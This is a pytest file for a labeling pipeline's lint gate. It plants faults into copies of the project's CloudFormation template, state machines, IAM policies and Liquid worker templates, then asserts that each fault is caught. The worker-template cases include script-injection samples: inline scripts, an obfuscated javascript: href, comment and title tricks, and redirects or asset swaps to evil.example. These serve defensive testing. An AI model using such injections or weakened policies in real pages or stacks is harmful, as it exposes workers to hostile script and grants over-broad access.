"""The lint gate goes red for every fault it promises to see: each is planted into a copy of the real files."""

import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lint import authorization, cloudformation, machines, permissions, states, vocabulary, worker_templates
from lint.__main__ import check
from lint.project import Project, all_states

ROOT = Path(__file__).resolve().parents[2]
PAGE = "functions/labelloop/people/worker_ui/boxes.liquid.html"
BATCH, TRAIN = "label_batch", "train_model"
BY_NAME = "arn:${AWS::Partition}:lambda:${AWS::Region}:${AWS::AccountId}:function:${Prefix}-Consolidate"
Fault = Callable[[Path], None]


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    shutil.copy(ROOT / "template.yaml", tmp_path)
    shutil.copy(ROOT / "CHANGELOG.md", tmp_path)
    shutil.copytree(ROOT / "statemachines", tmp_path / "statemachines")
    shutil.copytree(ROOT / "functions", tmp_path / "functions", ignore=shutil.ignore_patterns("__pycache__"))
    return tmp_path


def in_file(name: str, old: str, new: str, times: int = 1) -> Fault:
    def plant(copy: Path) -> None:
        text = (copy / name).read_text()
        assert old in text, f"the fault cannot be planted: {name} no longer holds {old!r}"
        (copy / name).write_text(text.replace(old, new, times))

    return plant


def in_template(old: str, new: str, times: int = 1) -> Fault:
    return in_file("template.yaml", old, new, times)


def in_machine(machine: str, edit: Callable[[dict[str, Any]], Any]) -> Fault:
    """`edit` gets the machine's states."""

    def plant(copy: Path) -> None:
        path = copy / "statemachines" / f"{machine}.asl.json"
        definition = json.loads(path.read_text())
        edit(definition["States"])
        path.write_text(json.dumps(definition, indent=2))

    return plant


def rename(old: str, new: str) -> Fault:
    return lambda copy: (copy / old).rename(copy / new) and None


def without(action: str) -> Fault:
    """Takes an action from the statements of LabelBatch's role."""

    def plant(copy: Path) -> None:
        path = copy / "template.yaml"
        before, machine, rest = path.read_text().partition("  LabelBatchStateMachine:\n")
        inside, end, after = rest.partition("  TrainModelStateMachine:\n")
        assert machine and end and action in inside
        path.write_text(before + machine + inside.replace(action, "sns:Publish") + end + after)

    return plant


def copied_state(states: dict[str, Any]) -> None:
    states["Nobody Comes Here"] = {"Type": "Pass", "Comment": "Lost.", "Next": "Report Batch"}


def _ladder_of(states: dict[str, Any], of_map: str, state: str) -> list[dict[str, Any]]:
    ladder: list[dict[str, Any]] = states[of_map]["ItemProcessor"]["States"][state]["Retry"]
    return ladder


FAULTS: dict[str, tuple[Any, Fault, str]] = {
    "dangling GetAtt": (cloudformation, in_template("!GetAtt TrainingRole.Arn", "!GetAtt TraningRole.Arn"), "E1010"),
    "cycle": (
        cloudformation,
        in_template(
            f'CONSOLIDATE_FUNCTION_ARN: !Sub "{BY_NAME}"', "CONSOLIDATE_FUNCTION_ARN: !GetAtt ConsolidateFunction.Arn"
        ),
        "E3004",
    ),
    "value that CloudFormation refuses": (
        cloudformation,
        in_template("BillingMode: PAY_PER_REQUEST", "BillingMode: PAY_PER_MONTH"),
        "PAY_PER_MONTH",
    ),
    "transition to a state that does not exist": (
        states,
        in_machine(BATCH, lambda s: s["Judge Batch"].update(Next="Humans Neded?")),
        "'Humans Neded?', which does not exist",
    ),
    "catch that leads nowhere": (
        states,
        in_machine(TRAIN, lambda s: s["Promote Model"]["Catch"][0].update(Next="Lost")),
        "'Lost', which does not exist",
    ),
    "unreachable state": (states, in_machine(BATCH, copied_state), "no transition leads here"),
    "wait without a timeout": (
        states,
        in_machine(BATCH, lambda s: s["Request Labels"].pop("TimeoutSecondsPath")),
        "waits without TimeoutSeconds",
    ),
    "wait without a catch": (
        states,
        in_machine(TRAIN, lambda s: s["Train Challenger"].pop("Catch")),
        "waits without a Catch",
    ),
    "token passed to nobody": (
        states,
        in_machine(TRAIN, lambda s: s["Deploy Model"]["Parameters"]["Payload"].pop("task_token.$")),
        "passes to nobody",
    ),
    "retry on an error that nothing raises": (
        states,
        in_machine(BATCH, lambda s: s["Judge Batch"]["Retry"][1].update(ErrorEquals=["TransientErorr"])),
        "'TransientErorr', which nothing raises",
    ),
    "retry on everything": (
        states,
        in_machine(BATCH, lambda s: s["Judge Batch"]["Retry"][1].update(ErrorEquals=["States.ALL"])),
        "retries States.ALL",
    ),
    "no retry of the platform's errors": (
        states,
        in_machine(BATCH, lambda s: s["Judge Batch"]["Retry"].pop(0)),
        "does not retry the four errors",
    ),
    "no retry of a function that died": (
        states,
        in_machine(BATCH, lambda s: _ladder_of(s, "Infer Shards", "Request Inference").pop(1)),
        "Request Inference: does not retry a function that died",
    ),
    "a function that died is retried without end": (
        states,
        in_machine(TRAIN, lambda s: s["Promote Model"]["Retry"][1].update(MaxAttempts=6)),
        "Promote Model: retries a function that died 6 times",
    ),
    "string in an integer field": (
        states,
        in_machine(BATCH, lambda s: s["Judge Batch"]["Retry"][0].update(MaxAttempts="6")),
        "MaxAttempts must be a whole number",
    ),
    "map without a bound": (
        states,
        in_machine(BATCH, lambda s: s["Infer Shards"].pop("MaxConcurrencyPath")),
        "10,000 children",
    ),
    "assign": (states, in_machine(BATCH, lambda s: s["Nobody Asked"].update(Assign={"x": 1})), "Assign is not used"),
    "missing comment": (states, in_machine(TRAIN, lambda s: s["Better?"].pop("Comment")), "has no Comment"),
    "name that is not prose": (
        states,
        in_file("statemachines/train_model.asl.json", '"Champion Kept"', '"championKept"', 9),
        "not named in prose",
    ),
    "choice that asks nothing": (
        states,
        in_file("statemachines/train_model.asl.json", '"Better?"', '"Better"', 9),
        "a question is the name of a Choice",
    ),
    "undeclared substitution": (
        states,
        in_template("        JudgeBatchFunctionArn: !GetAtt JudgeBatchFunction.Arn\n", ""),
        "${JudgeBatchFunctionArn} is not declared",
    ),
    "unused substitution": (
        states,
        in_template("        JudgeBatchFunctionArn:", "        Unused: x\n        JudgeBatchFunctionArn:"),
        "which the file does not use",
    ),
    "unquoted substitution": (
        states,
        in_file("statemachines/train_model.asl.json", '"${PlanTrainingFunctionArn}"', "${PlanTrainingFunctionArn}"),
        "is every ${Name} quoted?",
    ),
    "retry rung on several lines": (
        machines,
        in_file("statemachines/train_model.asl.json", '{"ErrorEquals": [', '{\n  "ErrorEquals": ['),
        "run `python -m lint.machines`",
    ),
    "key given twice": (
        machines,
        in_file("statemachines/train_model.asl.json", '"StartAt": ', '"StartAt": "Lost",\n  "StartAt": '),
        "run `python -m lint.machines`",
    ),
    "renamed function file": (
        vocabulary,
        rename("functions/judge_batch.py", "functions/judge_images.py"),
        "functions/judge_batch.py does not exist",
    ),
    "function file without a function": (
        vocabulary,
        rename("functions/judge_batch.py", "functions/judge_images.py"),
        "template.yaml has no JudgeImagesFunction",
    ),
    "handler of another function": (
        vocabulary,
        in_template("Handler: judge_batch.handler", "Handler: report_batch.handler"),
        "its Handler must be judge_batch.handler",
    ),
    "state that calls another function": (
        vocabulary,
        in_template("!GetAtt JudgeBatchFunction.Arn", "!GetAtt ReportBatchFunction.Arn"),
        "must stand for JudgeBatchFunction",
    ),
    "renamed state": (
        vocabulary,
        in_file("statemachines/label_batch.asl.json", '"Judge Batch"', '"Decide Batch"', 9),
        "must be, or begin with, 'Judge Batch'",
    ),
    "machine without permission to call a function": (
        permissions,
        without("!GetAtt JudgeBatchFunction.Arn\n              "),
        "lacks lambda:InvokeFunction on JudgeBatchFunction.Arn",
    ),
    "machine without the permissions of .sync": (permissions, without("events:PutTargets"), "lacks events:PutTargets"),
    "machine without the permissions of a distributed map": (
        permissions,
        without("states:StopExecution"),
        "lacks states:StopExecution on :execution:${AWS::StackName}-LabelBatch:*",
    ),
    "function that executions of the last release may still call": (
        vocabulary,
        in_template("  StopLabelingFunction:\n", "  HaltLabelingFunction:\n"),
        "StopLabelingFunction of version 0.1.0 is gone",
    ),
    "alias with the code of another function": (
        vocabulary,
        in_template(
            "Description: Promote Model, as executions of version 0.1 call it.\n      Handler: promote_model.handler",
            "Description: Promote Model, as executions of version 0.1 call it.\n      Handler: deploy_model.handler",
        ),
        "stands for PromoteModelFunction and must have its Handler",
    ),
    "alias with a role of its own": (
        vocabulary,
        in_template("Role: !GetAtt PromoteModelFunctionRole.Arn", "Role: !GetAtt DeployModelFunctionRole.Arn"),
        "must have its Role: !GetAtt PromoteModelFunctionRole.Arn",
    ),
    "alias that no machine may call": (
        vocabulary,
        in_template("                - !GetAtt ScaleEndpointFunction.Arn\n", ""),
        "ScaleEndpointFunction: no machine may call it",
    ),
    "state that calls an alias": (
        vocabulary,
        in_file("statemachines/train_model.asl.json", "${PromoteModelFunctionArn}", "${ScaleEndpointFunctionArn}"),
        "which is for executions of a released version: call PromoteModel",
    ),
    "release whose functions nobody noted": (
        vocabulary,
        in_file("CHANGELOG.md", "## [0.1.0]", "## [0.2.0] - 2027-01-01\n\n## [0.1.0]"),
        "lacks the functions of version 0.2.0",
    ),
    "machine of one partition": (
        permissions,
        in_machine(BATCH, lambda s: s["Report Batch"].update(Resource="arn:aws:states:::lambda:invoke")),
        "names one partition",
    ),
    "role of one partition": (
        permissions,
        in_template('Resource: !Sub "arn:${AWS::Partition}:sagemaker', 'Resource: !Sub "arn:aws-us-gov:sagemaker'),
        "names one partition",
    ),
    "integration without a role check": (
        permissions,
        in_machine(BATCH, lambda s: s["Report Batch"].update(Resource="arn:${Partition}:states:::sns:publish")),
        "checks no role for sns:publish",
    ),
    "unexplained star": (
        permissions,
        in_template("            # Listing takes no resource; everything after it is limited to the prefix.\n", ""),
        "without a comment that says why",
    ),
    "all actions of a service": (
        permissions,
        in_template("Action: [s3:ListBucket, s3:ListBucketVersions]", "Action: s3:*"),
        "Action 's3:*': name the actions",
    ),
    "role passed to any service": (
        permissions,
        in_template("{StringEquals: {iam:PassedToService: sagemaker.amazonaws.com}}", "{}"),
        "without the condition iam:PassedToService",
    ),
    "action that AWS does not have": (
        authorization,
        in_template("sagemaker:InvokeEndpointAsync", "sagemaker:InvokeEndpointLater"),
        "sagemaker:InvokeEndpointLater: AWS has no such action",
    ),
    "action on another type of resource": (
        authorization,
        in_template(":endpoint/${Prefix}-*", ":model/${Prefix}-*", times=99),
        "sagemaker:InvokeEndpointAsync: none of its statement's resources is of a type that it takes",
    ),
    "resource that no action of the statement takes": (
        authorization,
        in_template(
            "Resource: !GetAtt TrainingRole.Arn", "Resource: [!GetAtt TrainingRole.Arn, !GetAtt LedgerTable.Arn]"
        ),
        "no action of its statement takes this type",
    ),
    "condition key that the action does not have": (
        authorization,
        in_template("{StringEquals: {iam:PassedToService: ", "{StringEquals: {sagemaker:PassedToService: "),
        "iam:PassRole: has no condition key sagemaker:PassedToService",
    ),
    "condition key that no action has, where it need not be there": (
        authorization,
        in_template("IfExists: {application-autoscaling:service-namespace", "IfExists: {application-autoscaling:name"),
        "application-autoscaling:name: no action of its statement has this condition key",
    ),
    "global condition key that AWS does not have": (
        authorization,
        in_template("{aws:SourceAccount: ", "{aws:SourceAcount: "),
        "aws:SourceAcount: not known as a global condition key",
    ),
    "trust in an action that AWS does not have": (
        authorization,
        in_template("Action: sts:AssumeRole", "Action: sts:AsumeRole"),
        "sts:AsumeRole: AWS has no such action",
    ),
    "policy of a queue for a resource of another type": (
        authorization,
        in_template(
            "Action: sqs:SendMessage\n            Resource: !GetAtt InferenceNotices.Arn",
            "Action: sqs:SendMessage\n            Resource: !Ref InferenceSuccessTopic",
        ),
        "sqs:SendMessage: none of its statement's resources is of a type that it takes",
    ),
    "name where an ARN must be": (
        authorization,
        in_template("Resource: !GetAtt LedgerTable.Arn", "Resource: !Ref LedgerTable"),
        "no ARN of a type that lint/authorization.py knows",
    ),
    "every resource of a service": (
        authorization,
        in_template("${AWS::AccountId}:labeling-job/${Prefix}-*", "${AWS::AccountId}:*"),
        "sagemaker:CreateLabelingJob: none of its statement's resources is of a type that it takes",
    ),
    "some actions of a service": (
        permissions,
        in_template("Action: sagemaker:InvokeEndpointAsync", 'Action: "sagemaker:Invoke*"'),
        "Action 'sagemaker:Invoke*': name the actions",
    ),
    # F18: what a file is called, or a class, must never become markup on somebody's page.
    "worker template that switches escaping off": (
        worker_templates,
        in_file(PAGE, "task.input.header | escape", "task.input.header | skip_autoescape"),
        "skip_autoescape lets a file name or label become markup",
    ),
    "worker template with an unescaped attribute": (
        worker_templates,
        in_file(PAGE, "task.input.labels | to_json | escape", "task.input.labels | to_json"),
        "task.input.labels | to_json stands in an attribute: end it with | escape",
    ),
    "worker template that escapes before another filter": (
        worker_templates,
        in_file(PAGE, "task.input.labels | to_json | escape", "task.input.labels | escape | to_json"),
        "stands in an attribute: end it with | escape",
    ),
    "worker template with an attribute without quotes": (
        worker_templates,
        in_file(PAGE, '"{{ task.input.header | escape }}"', "{{ task.input.header | escape }}"),
        "task.input.header | escape stands in a tag without quotes",
    ),
    "worker template with an unescaped text": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "<p>{{ task.input.header }}</p></crowd-bounding-box>"),
        "task.input.header is shown as it is",
    ),
    "worker template with a value in a script": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<script>var x = '{{ task.input.header | escape }}';</script><crowd-form>"),
        "stands in a script or style",
    ),
    "worker template that prints with a tag": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "{% echo task.input.header %}</crowd-bounding-box>"),
        "the tag echo prints what this lint does not look at",
    ),
    "worker template that prints with a tag over two lines": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "{%-\n  cycle task.input.header, 'x' -%}</crowd-bounding-box>"),
        "the tag cycle prints what this lint does not look at",
    ),
    "worker template with a block of Liquid": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "{%- liquid\n  echo task.input.header\n%}</crowd-bounding-box>"),
        "the tag liquid prints what this lint does not look at",
    ),
    "worker template whose escaping is undone by a filter": (
        worker_templates,
        in_file(PAGE, "task.input.header | escape", "task.input.header | escape | replace: '&lt;', '<' | escape"),
        "escape once, at the end",
    ),
    "worker template with a value in a handler": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<crowd-form onclick=\"f('{{ task.input.header | escape }}')\">"),
        "has the attribute onclick",
    ),
    "worker template with a value as an address": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '<a href="{{ task.input.header | escape }}">more</a></crowd-form>'),
        "only | grant_read_access may fill it, alone",
    ),
    "worker template with a value in an address": (
        worker_templates,
        in_file(PAGE, 'src="{{ task.input.taskObject', 'src="//evil.example/{{ task.input.taskObject'),
        "stands in a tag without quotes",
    ),
    "worker template with a signed address as a text": (
        worker_templates,
        in_file(PAGE, "task.input.header | escape", "task.input.header | grant_read_access"),
        "stands in an attribute: end it with | escape",
    ),
    "worker template with a frame": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '<iframe srcdoc="{{ task.input.header | escape }}"></iframe></crowd-form>'),
        "<iframe> has no place in a worker template",
    ),
    "worker template that hides a script behind a comment": (
        worker_templates,
        in_file(
            PAGE,
            "</crowd-form>",
            '<!-- <a title=" --><script>f("{{ task.input.header | escape }}")</script><!-- "> --></crowd-form>',
        ),
        "has an HTML comment",
    ),
    "worker template that hides a script behind a title": (
        worker_templates,
        in_file(
            PAGE, "</crowd-form>", '<title><a b="</title><i c="{{ task.input.header | escape }}"></i></crowd-form>'
        ),
        "<title> has no place",
    ),
    "worker template with the crowd elements of somebody else": (
        worker_templates,
        in_file(PAGE, "https://assets.crowd.aws/", "https://evil.example/"),
        "runs a script of its own",
    ),
    "worker template with a script": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<script>alert(1)</script><crowd-form>"),
        "runs a script of its own",
    ),
    "worker template with an address that is a script": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '<a href=" java&#115;cript:alert(1)">x</a></crowd-form>'),
        "has a script as its href",
    ),
    "worker template that leaves the page": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", "<meta http-equiv=refresh content='0;url=//evil.example'></crowd-form>"),
        "<meta> has no place",
    ),
    "worker template with a value in a tag that does not end": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '</crowd-form><a title="{{ task.input.header | escape }}"'),
        "in a tag that does not end",
    ),
    "worker template without a form": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<form>"),
        "needs exactly one <crowd-form>",
    ),
    "worker template whose form does not end": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", "</form>"),
        "needs exactly one </crowd-form>",
    ),
    "no worker template at all": (
        worker_templates,
        rename("functions/labelloop/people/worker_ui", "functions/labelloop/pages"),
        "holds no worker template",
    ),
}


@pytest.mark.fault("D17", "D21", "F18", "I14")
@pytest.mark.parametrize("name", FAULTS)
def test_a_planted_fault_turns_the_gate_red(name: str, copy: Path) -> None:
    checked, plant, message = FAULTS[name]
    plant(copy)
    findings = [str(finding) for finding in checked.check(Project(copy))]
    assert any(message in finding for finding in findings), findings


def test_a_machine_is_laid_out_in_one_way_and_stays_the_same_machine(copy: Path) -> None:
    path = copy / "statemachines" / f"{BATCH}.asl.json"
    as_it_is = path.read_text()
    spread = json.dumps(json.loads(as_it_is), indent=4)
    assert machines.text(json.loads(spread)) == as_it_is
    assert json.dumps(json.loads(as_it_is), indent=4) == spread, "no key moves, no value changes"
    ladders = [state.get("Retry", []) for _, state in all_states(json.loads(as_it_is))]
    lines = [line.strip().rstrip(",") for line in as_it_is.split("\n")]
    assert ladders and all(json.dumps(rung) in lines for ladder in ladders for rung in ladder)


def test_the_command_says_what_is_wrong_and_fails(copy: Path) -> None:
    in_template("!Ref CallbacksTable", "!Ref CalbacksTable")(copy)
    done = subprocess.run(
        [sys.executable, "-m", "lint", "--project", str(copy)], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert done.returncode == 1
    assert "E1020" in done.stdout and "CalbacksTable" in done.stdout


def test_the_repository_passes() -> None:
    assert [str(finding) for finding in check(Project(ROOT))] == []
